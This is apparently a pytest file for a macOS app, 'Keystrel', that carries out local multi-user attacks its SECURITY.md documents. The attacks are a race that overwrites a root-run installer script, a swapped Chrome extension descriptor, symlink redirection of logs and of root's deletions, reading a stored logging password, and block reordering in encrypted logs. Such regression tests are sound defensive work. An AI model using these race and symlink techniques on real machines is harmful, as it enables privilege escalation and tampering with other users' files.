"""What SECURITY.md says that another user of the machine can do, done by one.

These tests pin what is required today. One that fails because its attack fails is good news: then SECURITY.md changes.
"""

import plistlib
import subprocess

import pytest

from tests.support import build
from tests.support.mac import Mac

SETTINGS = "/Users/Shared/Keystrel/KSSettings.plist"
LOGS = "/Users/Shared/Keystrel/logs"
CHROME = "/Library/Application Support/Google/Chrome"
SYSTEM_EXTERNAL = CHROME + "/External Extensions"
PAYLOAD = "/Applications/Keystrel.app/Contents/Keystrel/Tools/BExtensions/chrome"
DESCRIPTOR = "kmcoedhplnbajgfiehkcpamdobnlgjie.json"
SCRIPT = "/var/tmp/script.sh"
STANDING_TIME = "2024-03-05 09:07:02"

AS_ANOTHER = "env -u LD_PRELOAD setpriv --reuid 502 --regid 20 --clear-groups"  # without a standing clock

# The installing script's `sleep` ends when the other user is done, so that nobody has to be quick.
WAITING_SCRIPT = f"""
cp /bin/sleep /private/tmp/shortly
echo '#!/bin/sh
until [ -e /private/tmp/done ]; do /private/tmp/shortly 0.02; done' >/private/tmp/sleep
chmod 755 /private/tmp/sleep
mount --bind /private/tmp/sleep /usr/bin/sleep
echo '%s' >/private/tmp/other.sh
{AS_ANOTHER} /bin/sh /private/tmp/other.sh >/dev/null 2>&1 &
"""


@pytest.fixture
def mac(tmp_path):
    mac = Mac.new("typical", tmp_path)
    tried = mac.run("--pre", f"mount --bind /usr/bin/true /usr/bin/false && {AS_ANOTHER} true", program="/bin/true")
    if tried.status != 0 or tried.reduced:
        pytest.skip("this host lets a Mac root have no third user, or mount nothing")
    return mac


def run_beside(mac, attack):
    """A run, during whose installing script another user carries out his own."""
    result = mac.run("--pre", WAITING_SCRIPT % (attack + "\ntouch /private/tmp/done"),
                     program=build.program("KSExtensionInstaller"))
    assert result.status == 0
    assert mac.path("/private/tmp/done").stat().st_uid == 502


def test_another_user_rewrites_the_script_and_root_runs_it(mac):
    run_beside(mac, f"""
yes "id -u >/private/tmp/who" | head -n 400 >/private/tmp/others
until grep -q "copy extension" {SCRIPT} && [ -w {SCRIPT} ]; do /private/tmp/shortly 0.02; done
dd if=/private/tmp/others of={SCRIPT} bs=65536 conv=notrunc""")  # in one piece: the shell may be reading
    assert mac.path("/private/tmp/who").read_text() == "0\n"
    assert mac.path("/private/tmp/who").stat().st_uid == 0


def test_another_user_chooses_the_address_that_is_installed_for_all(mac):
    run_beside(mac, f"""
until [ -w {PAYLOAD}/{DESCRIPTOR} ]; do /private/tmp/shortly 0.02; done
echo elsewhere >{PAYLOAD}/{DESCRIPTOR}""")
    assert mac.path(f"{SYSTEM_EXTERNAL}/{DESCRIPTOR}").read_text() == "elsewhere\n"


def test_another_user_directs_the_log_into_a_file_of_alexs(mac):
    mac.path("/Users/alex/.zshrc").write_text("alex's\n")
    result = mac.run("--own", "/Users/alex", "--at", STANDING_TIME, "--pre",
                     f"{AS_ANOTHER} sh -c 'mkdir {LOGS}; ln -s /Users/alex/.zshrc {LOGS}/2024_3_5_9_7_2.log'")
    assert result.status == 0
    assert mac.path("/Users/alex/.zshrc").read_text().startswith("alex's\n\n09:07:02 - INFO : ")


def test_another_user_replaces_the_settings_and_reads_the_password(mac):
    mac.path(SETTINGS).write_bytes(plistlib.dumps({"KSLoggingEnabled": "1", "KSLoggingPassword": "secret"}))
    result = mac.run("--pre", f"{AS_ANOTHER} sh -c 'grep secret {SETTINGS} && rm -f {SETTINGS}'")
    assert (result.status, result.stdout) == (0, "")
    assert "<string>secret</string>" in result.stderr
    assert not mac.path(SETTINGS).exists()


def test_a_link_of_alexs_directs_roots_removal(mac):
    mac.remove("/Users/alex/Library/Internet Plug-Ins")
    mac.path("/Users/alex/Library/Internet Plug-Ins").symlink_to("/Library/Elsewhere")
    for name in ("npKSPlugin.bundle", "Another.bundle"):
        mac.path("/Library/Elsewhere/" + name).mkdir(parents=True)
    assert mac.run().status == 0
    assert [path.name for path in mac.path("/Library/Elsewhere").iterdir()] == ["Another.bundle"]


def test_blocks_of_an_enciphered_log_change_places_unnoticed(mac):
    mac.path(SETTINGS).write_bytes(plistlib.dumps({"KSLoggingEnabled": "1", "KSLoggingPassword": "secret"}))
    assert mac.run("--at", STANDING_TIME).status == 0
    log = mac.path(LOGS + "/2024_3_5_9_7_2.log")

    def read():
        return subprocess.run([build.program("KSLogReader"), log], input=b"secret\n", capture_output=True, check=True)

    plain = read().stdout
    cipher = log.read_bytes()
    assert len(set(cipher[at:at + 16] for at in range(0, len(cipher), 16))) < len(cipher) // 16  # equal ones show
    log.write_bytes(cipher[:32] + cipher[48:64] + cipher[32:48] + cipher[64:])  # of the first text
    changed = read()
    assert changed.stderr == b"" and changed.stdout != plain
